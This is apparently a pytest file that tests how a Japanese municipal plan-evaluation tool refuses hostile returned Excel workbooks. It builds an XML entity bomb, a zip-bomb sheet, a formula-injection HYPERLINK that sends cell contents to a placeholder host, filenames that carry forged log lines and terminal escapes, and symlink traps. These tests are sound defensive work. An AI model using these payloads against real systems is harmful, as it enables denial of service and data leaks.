"""Returned evaluation workbooks are hostile input too: broken or oversized ones are refused.

``plan-report round collect`` reads workbooks that come back from departments by e-mail. A
truncated or malformed sheet, an XML entity bomb, or a workbook that unzips to gigabytes must
be refused with a message naming the file: no traceback, no memory blow-up, the data folder
unchanged.
"""

from __future__ import annotations

import hashlib
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from corpus import (
    ROOT,
    WORKBOOK,
    read_records,
    sheet_part,
    to_workbook,
    workbook_parts,
    write_parts,
    write_records,
)

from helpers import cli
from helpers.data.city import load_city
from helpers.data.evaluation_workbook import SHEET_INDICATORS, SHEET_ITEMS, collect_workbooks

EXAMPLE = ROOT / "data" / "example-city"
AS_OF = "令和7年度末"


def state(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


def started_round(
    tmp_path: Path, *, deadline: str = "2026-05-29", edit: Callable[[Path], None] | None = None
) -> tuple[Path, Path]:
    """A copy of the example city (changed by *edit*) and the workbooks round start sent."""
    data = tmp_path / "example-city"
    shutil.copytree(EXAMPLE, data)
    if edit is not None:
        edit(data)
    sent = tmp_path / "sent"
    start = ["round", "start", AS_OF, "--data", str(data), "--out", str(sent)]
    assert cli.main([*start, "--deadline", deadline]) == 0
    return data, sent


def huge_sheet(xml: bytes) -> bytes:
    """The sheet with 300 MB of rows: small once zipped, huge once unpacked."""
    head, _, _ = xml.partition(b"<sheetData>")
    row = b'<row><c t="inlineStr"><is><t>' + b"x" * 1000 + b"</t></is></c></row>"
    return head + b"<sheetData>" + row * 300_000 + b"</sheetData></worksheet>"


def entity_bomb(xml: bytes) -> bytes:
    entities = b'<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY b%d "%s">' % (i, (b"&b%d;" % (i - 1) if i else b"&a;") * 10) for i in range(8)
    )
    body = xml.split(b"?>", 1)[-1].replace(b"<sheetData>", b"<sheetData>&b7;", 1)
    return b'<?xml version="1.0"?><!DOCTYPE w [' + entities + b"]>" + body


EDITS: dict[str, Callable[[bytes], bytes]] = {
    "truncated": lambda xml: xml[: len(xml) // 2],
    "not_xml": lambda xml: b"\x00\x01 not xml",
    "entity_bomb": entity_bomb,
    "unzips_to_300_mb": huge_sheet,
}


@pytest.mark.parametrize("edit", list(EDITS))
def test_a_broken_returned_workbook_is_refused(
    edit: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data, sent = started_round(tmp_path, deadline="令和8年5月29日")
    capsys.readouterr()
    target = sorted(sent.glob("*.xlsx"))[0]
    parts = workbook_parts(target)
    name = sheet_part(parts, SHEET_ITEMS)
    parts[name] = EDITS[edit](parts[name])
    write_parts(target, parts)
    before = state(data)

    started = time.monotonic()
    code = cli.main(["round", "collect", str(sent), "--data", str(data), "--apply"])
    elapsed = time.monotonic() - started
    text = capsys.readouterr()
    output = text.out + text.err
    assert code == 1
    assert elapsed < 60
    assert "Traceback" not in output
    assert target.name in output
    assert "\x1b" not in output
    assert state(data) == before
    if edit == "unzips_to_300_mb":
        assert "展開すると大きすぎます" in output  # refused before anything is unpacked


# --- text that looks like a formula --------------------------------------------------------------

LEAK = '=HYPERLINK("http://example.invalid/?leak="&C2,"x")'


def formula_like_texts(data: Path) -> None:
    """項目名 =1+1 for plan 2 item 1; every 評価理由 of 令和6年度末 a hyperlink; 課題 #N/A."""
    items = read_records(data / "items.csv")
    head = items[0]
    for record in items[1:]:
        if record[head.index("計画ID")] == "2" and record[head.index("項目番号")] == "1":
            record[head.index("項目名")] = "=1+1"
    write_records(data / "items.csv", items)
    statuses = read_records(data / "statuses.csv")
    head = statuses[0]
    for record in statuses[1:]:
        if record[head.index("時点")] == "令和6年度末":
            record[head.index("評価理由")] = LEAK
            record[head.index("課題")] = "#N/A"
    write_records(data / "statuses.csv", statuses)


def formulas(path: Path) -> list[str]:
    """The sheets of a workbook that hold a formula (an ``<f>`` element)."""
    return [
        name
        for name, xml in workbook_parts(path).items()
        if name.startswith("xl/worksheets/") and (b"<f>" in xml or b"<f " in xml)
    ]


def test_text_that_looks_like_a_formula_is_written_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data, sent = started_round(tmp_path, edit=formula_like_texts)
    texts = []
    for path in sorted(sent.glob("*.xlsx")):
        assert formulas(path) == [], path.name
        book = openpyxl.load_workbook(path)
        for row in book[SHEET_ITEMS].iter_rows(min_row=2):
            texts += [(c.value, c.data_type) for c in row if c.value in (LEAK, "=1+1", "#N/A")]
    assert (LEAK, "s") in texts and ("=1+1", "s") in texts and ("#N/A", "s") in texts
    assert {t for _, t in texts} == {"s"}
    # read back: the same text, so the name is not "edited" and the reason is kept
    collection = collect_workbooks(sent, load_city(data))
    assert [p for p in collection.problems if p.code == "edited_locked"] == []
    answers = [i.answers for d in collection.departments for i in d.items]
    assert LEAK in {a["reason"] for a in answers}
    assert "#N/A" in {a["challenges"] for a in answers}

    to_workbook(data)  # csv_to_workbook writes its cells the same way
    assert formulas(data / WORKBOOK) == []
    city = load_city(data)
    assert "=1+1" in set(city.items["name"])
    assert LEAK in set(city.statuses["reason"])


def test_a_file_name_cannot_forge_a_line_of_the_summary(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data, sent = started_round(tmp_path)
    capsys.readouterr()
    forged = "somu\n2026-01-01 00:00:00 done (exit 0).xlsx"
    (sent / "evaluation-2025-somu.xlsx").rename(sent / forged)
    (sent / "evaluation-2025-shimin.xlsx").rename(sent / "shimin\x1b[2J.xlsx")
    cli.main(["round", "collect", str(sent), "--data", str(data)])
    text = capsys.readouterr()
    output = text.out + text.err
    assert "somu\\n2026-01-01 00:00:00 done (exit 0).xlsx" in output
    assert "shimin\\x1b[2J.xlsx" in output
    assert not any(line.startswith("2026-01-01") for line in output.splitlines())
    assert "\x1b" not in output


# --- a returned workbook of very many cells ----------------------------------------------------


def many_cells(xml: bytes, rows: int = 200_000) -> bytes:
    """The sheet with ``rows`` extra rows of one filled cell each, after its own rows."""
    head, _, rest = xml.partition(b"</sheetData>")
    cell = b'<c r="A%d" t="inlineStr"><is><t>' + b"x" * 200 + b"</t></is></c>"
    extra = b"".join(b'<row r="%d">' % r + cell % r + b"</row>" for r in range(100, 100 + rows))
    return head + extra + b"</sheetData>" + rest


def test_a_workbook_of_very_many_cells_is_refused_in_bounded_memory(tmp_path: Path) -> None:
    data, sent = started_round(tmp_path)
    target = sorted(sent.glob("*.xlsx"))[0]
    parts = workbook_parts(target)
    name = sheet_part(parts, SHEET_ITEMS)
    parts[name] = many_cells(parts[name])
    write_parts(target, parts)
    assert target.stat().st_size < 2_000_000  # small to send, about 50 MB of cells unpacked
    # the peak memory of the collecting process alone (VmHWM starts afresh at exec; ru_maxrss
    # may carry the forking test process's own peak)
    script = (
        "import re, sys\n"
        "from helpers import cli\n"
        "code = cli.main(['round', 'collect', sys.argv[1], '--data', sys.argv[2]])\n"
        "status = open('/proc/self/status').read()\n"
        "print('peak', re.search(r'VmHWM:\\s*(\\d+)', status).group(1), file=sys.stderr)\n"
        "sys.exit(code)\n"
    )
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", script, str(sent), str(data)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    elapsed = time.monotonic() - started
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    output = done.stdout + done.stderr
    assert target.name in output and "too many rows" in output
    peak_kib = int(done.stderr.rsplit("peak", 1)[1].split()[0])
    print(f"peak {peak_kib / 1024:.0f} MiB, {elapsed:.1f} s")
    assert peak_kib < 250 * 1024  # about 100 MiB; reading every cell took over 1 GiB
    assert elapsed < 60


# --- numbers too large to show ---------------------------------------------------------------


@pytest.mark.parametrize("value", ["99999999999999999999999999999", "-1000000000000000"])
def test_validate_refuses_an_actual_too_large_to_show(
    value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "example-city"
    shutil.copytree(EXAMPLE, data)
    actuals = read_records(data / "actuals.csv")
    actuals[1][actuals[0].index("実績値")] = value
    write_records(data / "actuals.csv", actuals)
    code = cli.main(["validate", str(data)])
    output = capsys.readouterr()
    text = output.out + output.err
    assert code == 1
    assert "Traceback" not in text
    assert "数値が大きすぎます。絶対値は 1,000,000,000,000,000 未満にしてください" in text
    assert "actuals.csv" in text


@pytest.mark.parametrize("value", ["NaN", "Infinity", "1e400", "1e308", 1e308, -1e15])
def test_collect_refuses_an_actual_that_is_not_a_finite_number_in_range(
    value: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data, sent = started_round(tmp_path)
    capsys.readouterr()
    target = sent / "evaluation-2025-shimin.xlsx"
    book = openpyxl.load_workbook(target)
    book[SHEET_INDICATORS]["K2"] = value  # 実績値
    book.save(target)
    before = state(data)
    code = cli.main(["round", "collect", str(sent), "--data", str(data), "--apply"])
    output = capsys.readouterr()
    text = output.out + output.err
    assert code == 1
    assert "Traceback" not in text
    assert "evaluation-2025-shimin.xlsx [指標]" in text and "実績値 (K2)" in text
    assert "数値ではありません" in text or "数値が大きすぎます" in text
    assert state(data) == before


def test_a_small_actual_is_appended_as_a_number_the_data_reads(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data, sent = started_round(tmp_path)
    target = sent / "evaluation-2025-shimin.xlsx"
    book = openpyxl.load_workbook(target)
    book[SHEET_INDICATORS]["K2"] = 0.0000001  # written 1e-07 by repr, which the data refuses
    book.save(target)
    code = cli.main(["round", "collect", str(sent), "--data", str(data), "--apply"])
    text = capsys.readouterr()
    assert code == 0, text.out + text.err
    assert ",0.0000001分," in (data / "actuals.csv").read_text(encoding="utf-8")


# --- symbolic links in the round's folders -----------------------------------------------------


def test_collect_never_reads_a_workbook_through_a_link_out_of_the_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A returned-workbook folder holding a link to a workbook elsewhere (another round's, a
    file of someone else) refuses the link unread; a link inside the folder is still read."""
    data, sent = started_round(tmp_path)
    capsys.readouterr()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    outside, inside = sorted(sent.glob("*.xlsx"))[:2]
    outside.rename(elsewhere / outside.name)
    (sent / "linked.xlsx").symlink_to(elsewhere / outside.name)
    (sent / "kept").mkdir()
    inside.rename(sent / "kept" / inside.name)
    (sent / inside.name).symlink_to(Path("kept") / inside.name)
    (sent / "folder.xlsx").mkdir()
    before = state(data)

    collection = collect_workbooks(sent, load_city(data))
    refused = {(p.file, p.code) for p in collection.problems}
    assert ("linked.xlsx", "link_outside_folder") in refused
    assert ("folder.xlsx", "not_regular_file") in refused
    assert "linked.xlsx" not in collection.files  # never opened
    assert inside.name in collection.files  # a link inside the folder is followed

    code = cli.main(["round", "collect", str(sent), "--data", str(data), "--apply"])
    output = capsys.readouterr()
    assert code == 1
    assert "Traceback" not in output.out + output.err
    assert "linked.xlsx は調査票のフォルダの外を指すリンクです" in output.out + output.err
    assert state(data) == before


def test_round_start_never_writes_through_a_link(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Links planted where round start writes (a workbook's name, the old temporary name) are
    replaced by the workbooks; the files they pointed to are untouched."""
    data, sent = started_round(tmp_path)
    names = sorted(p.name for p in sent.glob("*.xlsx"))
    expected = {name: (sent / name).read_bytes() for name in names}
    victims = []
    for number, name in enumerate([names[0], f".{names[1]}.tmp"]):
        victim = tmp_path / f"victim-{number}"
        victim.write_text("keep", encoding="utf-8")
        (sent / name).unlink(missing_ok=True)
        (sent / name).symlink_to(victim)
        victims.append(victim)
    start = ["round", "start", AS_OF, "--data", str(data), "--out", str(sent)]
    assert cli.main([*start, "--deadline", "2026-05-29"]) == 0
    assert [victim.read_text(encoding="utf-8") for victim in victims] == ["keep", "keep"]
    assert not (sent / names[0]).is_symlink()
    assert {name: (sent / name).read_bytes() for name in names} == expected


def test_round_start_refuses_an_output_folder_that_is_a_link(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "example-city"
    shutil.copytree(EXAMPLE, data)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "rounds"
    out.symlink_to(elsewhere)
    start = ["round", "start", AS_OF, "--data", str(data), "--out", str(out)]
    assert cli.main([*start, "--deadline", "2026-05-29"]) == 2
    output = capsys.readouterr()
    assert "Traceback" not in output.out + output.err
    assert "シンボリックリンクです" in output.err and str(out) in output.err
    assert list(elsewhere.iterdir()) == []


def test_round_start_names_a_folder_in_a_workbooks_place(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data, sent = started_round(tmp_path)
    name = sorted(p.name for p in sent.glob("*.xlsx"))[0]
    (sent / name).unlink()
    (sent / name).mkdir()
    capsys.readouterr()
    start = ["round", "start", AS_OF, "--data", str(data), "--out", str(sent)]
    assert cli.main([*start, "--deadline", "2026-05-29"]) == 2
    output = capsys.readouterr()
    assert "Traceback" not in output.out + output.err
    assert "書き込めませんでした" in output.err
